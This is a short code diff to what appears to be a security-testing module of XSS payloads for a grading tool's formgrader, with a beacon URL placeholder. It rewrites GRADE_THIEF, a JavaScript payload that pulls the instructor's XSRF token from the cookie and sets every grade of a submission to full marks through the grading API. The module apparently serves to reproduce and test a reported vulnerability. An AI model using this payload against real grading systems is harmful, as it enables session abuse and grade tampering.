@@ -23,8 +23,9 @@ __all__ = ["PAYLOADS", "Payload", "add_payloads", "readable_words", "write_unval
 ACT = "@ACT@"  # replaced by the payload's own action: fetch the beacon, change the title
 BEACON = "@BEACON@"  # replaced by the beacon's URL
 # The attack of issue 26: full marks for every grade of the submission, with the instructor's XSRF token.
-GRADE_THIEF = ("fetch('/formgrader/api/grades?submission_id='+submission_id).then(r=>r.json()).then(g=>g.forEach("
-               "x=>fetch('/formgrader/api/grade/'+x.id,{method:'PUT',headers:{'X-XSRFToken':"
+# (Absolute URLs: another payload's <base> must not send it to the beacon instead.)
+GRADE_THIEF = ("const a=location.origin+'/formgrader/api/';fetch(a+'grades?submission_id='+submission_id)"
+               ".then(r=>r.json()).then(g=>g.forEach(x=>fetch(a+'grade/'+x.id,{method:'PUT',headers:{'X-XSRFToken':"
                "document.cookie.match(/_xsrf=([^;]+)/)[1]},body:JSON.stringify({manual_score:x.max_score})})))")
 _SCRIPT_B64 = base64.b64encode(f"<script>{ACT}</script>".encode()).decode()
 
